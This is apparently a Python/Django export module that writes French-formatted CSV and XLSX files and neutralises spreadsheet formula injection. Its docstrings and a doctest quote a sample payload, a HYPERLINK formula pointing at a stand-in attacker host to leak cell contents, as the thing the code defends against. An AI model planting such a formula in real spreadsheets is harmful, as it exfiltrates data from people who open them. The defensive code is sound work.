"""Declared exports (les-emplois style): an ordered column spec, written to CSV or XLSX the same way.

CSV is for Excel in France: ``;`` separator, UTF-8 with a BOM, dates as 26/11/2026, numbers with a
decimal comma and no thousands separator (so that Excel reads them as numbers), an empty cell for a
missing value. XLSX keeps real types (dates, numbers) with French display formats, a bold frozen
header, a filter, and optionally a second sheet listing the parameters and sources of the export
(numbers there are numbers too).

Numbers are rounded once, like the pages (``formats.round_half_up``), to the column's decimals, in both
formats. A ``percent`` column receives a fraction (0.233) and writes the percentage (23,3): its header
must say « (%) ». User text is never written as a formula (CSV: a leading apostrophe before ``= + - @``;
XLSX: text cells).

This module is the one writer of every spreadsheet the platform hands out (CSV and XLSX exports, the
steering report workbook, the open data CSV): text from users — a project named
``=HYPERLINK("http://evil.example/?leak="&A1)`` — is never written as a formula (issue #12):

- in CSV, a text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is prefixed
  with an apostrophe (OWASP « CSV injection »), which Excel and LibreOffice show as text;
- in XLSX, text is always a string cell (never a formula cell, ``data_type`` ``"s"``), kept exact, and
  the characters XML cannot hold are dropped instead of failing the export;
- numbers, dates and booleans keep their type (a negative amount stays a number);
- a stored number that is no displayable figure (NaN, an infinity, 10^15 or more, text in a number
  column) is written as the text « hors limites », as the pages show it: an export never fails on a
  stored value.

The financing plan workbook (``essaim.financing.xlsx``) writes live formulas of its own and escapes
its labels the same way (``_set_text``).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass
from decimal import Decimal
from typing import TYPE_CHECKING, Any

from django.http import HttpResponse
from django.utils import timezone

from essaim.common.formats import OUT_OF_RANGE, displayable, format_date, round_half_up

# openpyxl (with Pillow, ≈ 0,6 s to import) is imported by the functions that write a workbook, not with this
# module: the job kinds import it when every process starts (essaim/jobs/apps.py), and most never write one.
if TYPE_CHECKING:
    from openpyxl import Workbook

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# A spreadsheet reads a cell starting with one of these as a formula (or a DDE command).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def neutralize_csv_text(text: str) -> str:
    """Text for a CSV cell: prefixed with an apostrophe if a spreadsheet would read it as a formula.

    >>> neutralize_csv_text('=HYPERLINK("http://evil.example")')
    '\'=HYPERLINK("http://evil.example")'
    >>> neutralize_csv_text("Atelier -2")
    'Atelier -2'
    """
    return "'" + text if text.lstrip(" ").startswith(FORMULA_TRIGGERS) else text


def xlsx_text(text: str) -> str:
    """Text for an XLSX cell: without the control characters XML cannot hold (they would fail the export)."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    return ILLEGAL_CHARACTERS_RE.sub("", text)


def _out_of_range(value: Any) -> bool:
    """A number no spreadsheet cell should hold: NaN, an infinity, 10^15 or more."""
    return _is_number(value) and displayable(value) is None


def xlsx_cell(sheet, value: Any) -> Any:
    """The value to append to ``sheet``: text becomes a string cell (never a formula), a number that is
    no displayable figure becomes « hors limites », anything else is left to openpyxl (numbers, dates,
    booleans, None keep their type)."""
    if _out_of_range(value):
        value = OUT_OF_RANGE
    if isinstance(value, str):
        from openpyxl.cell.cell import Cell

        cell = Cell(sheet, value=xlsx_text(value))
        cell.data_type = "s"
        return cell
    return value


def append_row(sheet, values: Iterable[Any]) -> None:
    """``sheet.append(values)`` through the neutralising writer: use it for every row of every export."""
    sheet.append([xlsx_cell(sheet, value) for value in values])


def workbook_bytes(workbook: Workbook) -> bytes:
    """Save ``workbook``; any cell still typed as a formula (a value set outside ``append_row``) is
    turned back into text first: exports hold no formula."""
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _csv_cell(value: Any) -> Any:
    if isinstance(value, str):
        return neutralize_csv_text(value)
    return OUT_OF_RANGE if _out_of_range(value) else value


class NeutralizingCsvWriter:
    """``csv.writer`` whose text cells go through ``neutralize_csv_text`` (numbers are left as written
    by the caller: pass them as int/Decimal/float, not as text, to keep a leading minus)."""

    def __init__(self, buffer, **options):
        self._writer = csv.writer(buffer, **options)

    def writerow(self, values: Iterable[Any]):
        return self._writer.writerow([_csv_cell(value) for value in values])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_text(header: Sequence[str], rows: Iterable[Iterable[Any]], **options) -> str:
    """A whole CSV (``csv.writer`` options, e.g. ``delimiter``) through the neutralising writer."""
    buffer = io.StringIO()
    writer = NeutralizingCsvWriter(buffer, **options)
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue()


@dataclass(frozen=True)
class Column:
    """One exported column. ``value`` reads the cell from a row object; without it, rows are
    sequences and the column reads its own position."""

    header: str  # French, as shown on the page
    value: Callable[[Any], Any] | None = None
    kind: str = "text"  # text | number | percent (a fraction written ×100) | date | datetime | bool
    decimals: int = 0  # for numbers
    width: int = 18  # XLSX column width (characters)


def _cells(rows: Iterable[Any], columns: Sequence[Column]) -> Iterable[list[Any]]:
    for row in rows:
        yield [column.value(row) if column.value is not None else row[index] for index, column in enumerate(columns)]


def _rounded(value: Any, column: Column):
    """The number as the page shows it: a percentage for ``percent`` columns, rounded half up."""
    if column.kind == "percent":
        return round_half_up(round_half_up(value, column.decimals + 6) * 100, column.decimals)
    return round_half_up(value, column.decimals)


def _is_number(value: Any) -> bool:
    return isinstance(value, (int, float, Decimal)) and not isinstance(value, bool)


def _csv_text(value: Any, column: Column) -> str:
    if value is None or value == "":
        return ""
    if column.kind in ("number", "percent") and _is_number(value):
        if displayable(value) is None or displayable(value * 100 if column.kind == "percent" else value) is None:
            return OUT_OF_RANGE
        return f"{_rounded(value, column):f}".replace(".", ",")
    if column.kind == "date":
        return format_date(value)
    if column.kind == "datetime":
        return format_date(timezone.localtime(value).date())
    if column.kind == "bool":
        return "Oui" if value else "Non"
    return neutralize_csv_text(str(value))


def _xlsx_value(value: Any, column: Column) -> Any:
    if value is None or value == "":
        return None
    if column.kind == "datetime":
        return timezone.localtime(value).replace(tzinfo=None).date()
    if column.kind == "bool":
        return "Oui" if value else "Non"
    if column.kind in ("number", "percent") and _is_number(value):
        if displayable(value) is None or displayable(value * 100 if column.kind == "percent" else value) is None:
            return OUT_OF_RANGE
        rounded = _rounded(value, column)
        return int(rounded) if column.decimals == 0 else float(rounded)
    if not isinstance(value, (str, int, float, Decimal, dt.date, dt.datetime, dt.time, dt.timedelta)):
        return str(value)  # enums, lazy translations…: as the page shows them
    return value


def _parameter_cell(value: Any) -> Any:
    if isinstance(value, bool):
        return "Oui" if value else "Non"
    if _out_of_range(value):
        return OUT_OF_RANGE
    if isinstance(value, Decimal):
        return float(value)
    return value


def _number_format(column: Column) -> str | None:
    if column.kind in ("date", "datetime"):
        return "DD/MM/YYYY"
    if column.kind in ("number", "percent"):
        return "#,##0" if column.decimals == 0 else "#,##0." + "0" * column.decimals
    return None


def _attachment(content: bytes, content_type: str, filename_stem: str, extension: str) -> HttpResponse:
    response = HttpResponse(content, content_type=content_type)
    response["Content-Disposition"] = (
        f'attachment; filename="{filename_stem}-{timezone.localdate():%Y-%m-%d}.{extension}"'
    )
    return response


def csv_response(rows: Iterable[Any], columns: Sequence[Column], *, filename_stem: str) -> HttpResponse:
    # Cells are already neutralised by ``_csv_text`` (per column kind): the plain writer writes them.
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";", lineterminator="\r\n")
    writer.writerow([neutralize_csv_text(column.header) for column in columns])
    for cells in _cells(rows, columns):
        writer.writerow([_csv_text(value, column) for value, column in zip(cells, columns, strict=True)])
    return _attachment(("\ufeff" + buffer.getvalue()).encode("utf-8"), "text/csv; charset=utf-8", filename_stem, "csv")


def _bold_header(sheet) -> None:
    from openpyxl.styles import Font

    for cell in sheet[1]:
        cell.font = Font(bold=True)


def xlsx_response(
    rows: Iterable[Any],
    columns: Sequence[Column],
    *,
    filename_stem: str,
    title: str,
    parameters: Sequence[tuple[str, Any]] = (),
    sheets: Sequence[tuple[str, Iterable[Any], Sequence[Column]]] = (),
) -> HttpResponse:
    """One data sheet (``title``), then the ``sheets`` given as (title, rows, columns), then the parameters."""
    from openpyxl import Workbook

    workbook = Workbook()
    _data_sheet(workbook.active, title, rows, columns)
    for extra_title, extra_rows, extra_columns in sheets:
        _data_sheet(workbook.create_sheet(), extra_title, extra_rows, extra_columns)
    if parameters:
        info = workbook.create_sheet("Paramètres")
        append_row(info, ["Paramètre", "Valeur"])
        _bold_header(info)
        for key, value in parameters:
            append_row(info, [key, _parameter_cell(value)])
            if isinstance(value, float) and not value.is_integer():
                info.cell(row=info.max_row, column=2).number_format = "#,##0.00"
            elif isinstance(value, (int, float)) and not isinstance(value, bool):
                info.cell(row=info.max_row, column=2).number_format = "#,##0"
        info.column_dimensions["A"].width = 40
        info.column_dimensions["B"].width = 90
    return _attachment(workbook_bytes(workbook), XLSX_CONTENT_TYPE, filename_stem, "xlsx")


def _data_sheet(sheet, title: str, rows: Iterable[Any], columns: Sequence[Column]) -> None:
    from openpyxl.utils import get_column_letter

    sheet.title = title[:31]
    append_row(sheet, [column.header for column in columns])
    _bold_header(sheet)
    for cells in _cells(rows, columns):
        append_row(sheet, [_xlsx_value(value, column) for value, column in zip(cells, columns, strict=True)])
    for index, column in enumerate(columns, start=1):
        sheet.column_dimensions[get_column_letter(index)].width = column.width
        if number_format := _number_format(column):
            for (cell,) in sheet.iter_rows(min_row=2, min_col=index, max_col=index):
                cell.number_format = number_format
    sheet.freeze_panes = "A2"
    sheet.auto_filter.ref = sheet.dimensions
